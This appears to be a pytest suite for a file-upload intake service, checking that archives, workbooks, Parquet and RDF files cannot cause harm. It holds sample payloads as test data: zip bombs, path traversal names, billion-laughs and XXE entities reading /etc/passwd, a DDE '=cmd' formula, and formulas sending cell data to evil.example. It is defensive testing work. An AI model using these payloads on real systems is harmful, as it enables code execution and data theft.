"""交上来的文件害不了人：一律拒收或化解。 No file that is handed in can do harm."""

import csv
import io
import re
import socket
import stat
import subprocess
import sys
from datetime import date
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import openpyxl
import pyarrow as pa
import pytest
from openpyxl.workbook.defined_name import DefinedName
from pyarrow import parquet
from report_making import nasty_report

from zhunru.csv_text import FORMULA_STARTS
from zhunru.errors import InputError
from zhunru.intake import archives, workbooks
from zhunru.intake.limits import MAX_CELL_LETTERS, MAX_COLUMNS
from zhunru.intake.opening import sheets_of
from zhunru.intake.read_as import ReadAs
from zhunru.intake.sources import SheetError, Source
from zhunru.jobs import State, silent
from zhunru.reports.formats import WRITERS
from zhunru.uploads import Settled, survey_upload, validate_upload
from zhunru.wide_evidence import wide_evidence

DAY = date(2026, 1, 1)
STAFF = "工号,姓名,机构编号\nD1,张三,H1\n"


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Whoever reads a file asks nobody for anything."""

    def refuse(*_):
        raise AssertionError("the network was asked")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def refused(path):
    """The problems with which a file is refused, when looked at and when validated."""
    looked = survey_upload([path], DAY, ReadAs(), tell=silent)
    with pytest.raises(InputError) as caught:
        validate_upload([path], Settled(DAY), tell=silent)
    assert str(path.parent) not in str(caught.value), "places on the server are nobody's business"
    told = [*looked.problems, *looked.remarks]
    return {one.kind for one in told}, {one.kind for one in caught.value.problems}


def refused_as(path, kind):
    assert all(kind in kinds for kinds in refused(path)), refused(path)


def packed(path, members):
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def workbook(path, cells=(("工号", "姓名", "机构编号"), ("D1", "张三", "H1")), **parts):
    """A workbook with a sheet 人员; parts are replaced or added, by the end of their names."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "人员"
    for row in cells:
        sheet.append(row)
    book.save(path)
    with ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for part, change in parts.items():
        name = part.replace("__", "/") + (".xml" if "bin" not in part else "")
        members[name.replace("_bin", ".bin")] = change(members.get(name, b""))
    return packed(path, members)


# 压缩包 Archives


def test_a_bomb_in_an_archive_is_not_unpacked(tmp_path):
    refused_as(packed(tmp_path / "弹.zip", {"人员.csv": b"0" * 20_000_000}), "too-large")


def test_many_bombs_that_are_large_together(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "MAX_EXPANDED_BYTES", 1000)
    members = {f"{number}/人员.csv": STAFF * 20 for number in range(3)}
    refused_as(packed(tmp_path / "弹.zip", members), "too-large")


def test_archives_in_archives_are_not_opened(tmp_path):
    inner = packed(tmp_path / "内.zip", {"人员.csv": STAFF})
    refused_as(packed(tmp_path / "外.zip", {"内.zip": inner.read_bytes()}), "nested-archive")


@pytest.mark.parametrize(
    "name", ["../人员.csv", "/etc/人员.csv", "a/../../人员.csv", "..\\人员.csv", "C:\\人员.csv"]
)
def test_no_path_leads_out_of_an_archive(tmp_path, name):
    refused_as(packed(tmp_path / "路.zip", {name: STAFF}), "unsafe-path")
    assert [one.name for one in tmp_path.parent.glob("*.csv")] == []


def test_links_in_an_archive_are_not_followed(tmp_path):
    link = ZipInfo("人员.csv")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    refused_as(packed(tmp_path / "链.zip", {link: "/etc/passwd"}), "unsafe-path")


def test_nothing_is_unpacked_onto_the_disk(tmp_path):
    path = packed(tmp_path / "数据.zip", {"人员.csv": STAFF})
    survey_upload([path], DAY, ReadAs(), tell=silent)
    assert list(tmp_path.iterdir()) == [path]


# 太多的列、太大的格 Too many columns, too large cells


def test_a_million_columns_in_csv(tmp_path):
    path = tmp_path / "人员.csv"
    path.write_text(",".join(map(str, range(1_000_000))) + "\n", "utf-8")
    refused_as(path, "too-many-columns")


def test_a_million_columns_beside_the_right_ones(tmp_path):
    path = tmp_path / "人员.csv"
    path.write_text("工号,姓名,机构编号" + "," * 1_000_000 + "x\n", "utf-8")
    refused_as(path, "too-many-columns")


def test_a_million_columns_of_evidence(tmp_path):
    path = tmp_path / "证据.csv"
    path.write_text("标准代号,编号," + ",".join(map(str, range(1_000_000))) + "\n", "utf-8")
    with pytest.raises(InputError) as caught:
        validate_upload([path], Settled(DAY), tell=silent)
    (problem,) = caught.value.problems
    assert "16384" in problem.chinese


def test_a_million_columns_in_a_workbook(tmp_path):
    far = b'<c r="BDWGO1"><v>1</v></c></row>'
    path = workbook(
        tmp_path / "宽.xlsx",
        xl__worksheets__sheet1=lambda xml: xml.replace(b"</row>", far, 1),
    )
    refused_as(path, "too-large")


def test_as_many_columns_as_excel_has(tmp_path):
    path = workbook(tmp_path / "宽.xlsx", [["工号", *range(MAX_COLUMNS)]])
    refused_as(path, "too-many-columns")


def test_columns_and_rows_that_a_parquet_file_only_claims(tmp_path):
    names = {f"c{number}": pa.array(["x"]) for number in range(MAX_COLUMNS + 1)}
    parquet.write_table(pa.table(names), tmp_path / "人员.parquet")
    refused_as(tmp_path / "人员.parquet", "too-many-columns")
    blank = pa.nulls(25_000_000, pa.int8())
    parquet.write_table(pa.table({"工号": blank}), tmp_path / "职称.parquet")
    assert (tmp_path / "职称.parquet").stat().st_size < 1_000_000
    refused_as(tmp_path / "职称.parquet", "too-large")


def test_a_huge_cell_is_told_in_short(tmp_path):
    huge = "长" * (MAX_CELL_LETTERS + 1)
    table = pa.table({"工号": ["D1"], "姓名": [huge], "机构编号": ["H1"]})
    parquet.write_table(table, tmp_path / "人员.parquet")
    with pytest.raises(InputError) as caught:
        validate_upload([tmp_path / "人员.parquet"], Settled(DAY), tell=silent)
    assert "too-long" in {one.kind for one in caught.value.problems}
    assert len(str(caught.value)) < 2000


def test_a_huge_cell_in_csv(tmp_path):
    path = tmp_path / "人员.csv"
    path.write_text(f"工号,姓名,机构编号\nD1,{'长' * 1_000_000},H1\n", "utf-8")
    with pytest.raises(InputError) as caught:
        validate_upload([path], Settled(DAY), tell=silent)
    assert "损坏" in str(caught.value)


# 工作簿 Workbooks

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd">]>"""


@pytest.mark.parametrize("code", ["utf-8", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    "part", ["xl__sharedStrings", "xl__worksheets__sheet1", "xl__workbook", "docProps__core"]
)
def test_workbooks_that_define_entities_are_refused(tmp_path, part, code):
    laughing = (LAUGHS.decode() + "<sst>&b;&c;</sst>").encode(code)
    refused_as(workbook(tmp_path / "笑.xlsx", **{part: lambda _: laughing}), "unsafe-xml")


def test_a_bomb_in_a_workbook(tmp_path):
    refused_as(
        workbook(tmp_path / "弹.xlsx", xl__sharedStrings=lambda _: b" " * 20_000_000), "too-large"
    )


def test_macros_are_neither_read_nor_given_back(tmp_path):
    path = workbook(tmp_path / "宏.xlsm", xl__vbaProject_bin=lambda _: b"Auto_Open")
    (sheet,) = survey_upload([path], DAY, ReadAs(), tell=silent).sheets
    assert (sheet.table, sheet.rows) == ("staff", 1)
    content = WRITERS[".xlsx"](nasty_report(), [Source(path.name, path.read_bytes())])
    with ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"Auto_Open" not in b"".join(map(archive.read, archive.namelist()))


OUTSIDE = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    '=webservice ("http://evil.example/")',
    "=[1]表!A1",
    "='http://evil.example/[x.xlsx]表'!A1",
    '=1+RTD("evil",,"x")',
]


@pytest.mark.parametrize("formula", OUTSIDE)
def test_formulas_that_reach_outside_come_back_as_text(formula, tmp_path):
    path = workbook(tmp_path / "甲.xlsx", [("工号", "姓名"), ("D1", formula)])
    content = WRITERS[".xlsx"](nasty_report(), [Source(path.name, path.read_bytes())])
    cell = openpyxl.load_workbook(io.BytesIO(content))["人员"]["B2"]
    assert (cell.value, cell.data_type) == (formula, "s")


@pytest.mark.parametrize("formula", ["=A1&A2", '=IF(A2="a|b[1]","x","y")', "=SUM(A1:A2)"])
def test_the_own_formulas_of_a_workbook_stay(formula, tmp_path):
    path = workbook(tmp_path / "甲.xlsx", [("工号", "姓名"), ("D1", formula)])
    content = WRITERS[".xlsx"](nasty_report(), [Source(path.name, path.read_bytes())])
    assert openpyxl.load_workbook(io.BytesIO(content))["人员"]["B2"].data_type == "f"


def test_a_bomb_is_told_before_it_is_parsed(monkeypatch):
    def parse(*_):
        raise AssertionError("the reader saw it")

    monkeypatch.setattr(workbooks.CalamineWorkbook, "from_filelike", parse)
    content = io.BytesIO()
    with ZipFile(content, "w") as archive:
        archive.writestr("xl/workbook.xml", LAUGHS)
    with pytest.raises(SheetError):
        sheets_of(Source("笑.xlsx", content.getvalue()))


# 写出的表 What is written


def test_no_csv_of_a_report_holds_a_formula():
    report = nasty_report()
    written = (
        WRITERS[".csv"](report, ()),
        wide_evidence([r.dossier for r in report.results], ".csv"),
    )
    for content in written:
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert len(rows) > 1
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        assert [cell for row in rows for cell in row if cell.startswith("'=")]


def test_no_workbook_of_a_report_holds_a_formula():
    report = nasty_report()
    files = [Source("人员.csv", "工号,姓名\n=1+1,@x\n".encode())]
    written = (
        WRITERS[".xlsx"](report, files),
        wide_evidence([one.dossier for one in report.results], ".xlsx"),
    )
    for content in written:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f"]
        quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
        assert quoted and all(cell.quotePrefix for cell in quoted)


def test_names_that_a_workbook_defines_reach_nothing(tmp_path):
    path = workbook(tmp_path / "名.xlsx")
    book = openpyxl.load_workbook(path)
    book.defined_names["x"] = DefinedName("x", attr_text="'file:///etc/[passwd]a'!$A$1")
    book.save(path)
    content = WRITERS[".xlsx"](nasty_report(), [Source(path.name, path.read_bytes())])
    with ZipFile(io.BytesIO(content)) as archive:
        assert b"passwd" not in b"".join(map(archive.read, archive.namelist()))


# RDF

XXE = """<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [<!ENTITY a "haha"><!ENTITY b SYSTEM "http://evil.example/x">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="http://evil.example/"><rdf:value>&a;&b;</rdf:value></rdf:Description>
</rdf:RDF>"""
REMOTE_CONTEXT = '{"@context": "http://evil.example/context.jsonld", "@id": "http://evil.example/"}'


@pytest.mark.parametrize("name", ["甲.ttl", "甲.nt", "甲.rdf", "甲.owl", "甲.xml", "甲.csv"])
@pytest.mark.parametrize("content", [XXE, REMOTE_CONTEXT], ids=["RDF/XML", "JSON-LD"])
def test_rdf_of_other_forms_is_refused_and_fetches_nothing(tmp_path, name, content):
    (tmp_path / name).write_text(content, "utf-8")
    with pytest.raises(InputError) as caught:
        validate_upload([tmp_path / name], Settled(DAY), tell=silent)
    assert "haha" not in str(caught.value)


def test_no_iri_of_turtle_is_fetched(tmp_path):
    (tmp_path / "甲.ttl").write_text(
        "@base <http://evil.example/> . @prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
        "<a> a owl:Ontology ; owl:imports <http://evil.example/more> .\n",
        "utf-8",
    )
    with pytest.raises(InputError, match="没有卷宗"):
        validate_upload([tmp_path / "甲.ttl"], Settled(DAY), tell=silent)


@pytest.mark.parametrize(("opening", "closing"), ["()", "[]"])
def test_turtle_that_is_nested_without_end(tmp_path, opening, closing):
    (tmp_path / "甲.ttl").write_text(f"<a:a> <a:b> {opening * 50_000}{closing * 50_000} .")
    with pytest.raises(InputError):
        validate_upload([tmp_path / "甲.ttl"], Settled(DAY), tell=silent)


# 防不住的，由工作进程的限度挡住 What is left is stopped by the limits of the worker


SERVER = """
import resource
from datetime import date
from pathlib import Path
from zhunru.errors import UserError
from zhunru.jobs import Jobs
from zhunru.uploads import Settled, validate_upload
resource.setrlimit(resource.RLIMIT_DATA, (2**30, resource.getrlimit(resource.RLIMIT_DATA)[1]))
path = Path({path!r})
jobs = Jobs(path.parent)
job = jobs.start("弹", validate_upload, (Settled(date(2026, 1, 1)),), [(path.name, path)])
job.wait()
try:
    job.result()
except UserError as error:
    print(job.state, error)
jobs.close()
"""


def test_a_parquet_file_that_fills_the_memory_ends_its_worker_only(tmp_path):
    text = pa.DictionaryArray.from_arrays(pa.array([0] * 200_000), pa.array(["长" * 200_000]))
    path = tmp_path / "人员.parquet"
    parquet.write_table(pa.table({"工号": text}), path)
    assert path.stat().st_size < 1_000_000
    # 服务器自己的限度由工作进程承袭，不必真占四个吉字节。
    # Workers inherit the limit of their server: no need to fill four gigabytes.
    command = [sys.executable, "-c", SERVER.format(path=str(path))]
    server = subprocess.run(command, capture_output=True, text=True, check=True)
    assert server.stdout.startswith(State.FAILED)
    assert re.search("内存|不是有效的 Parquet", server.stdout)
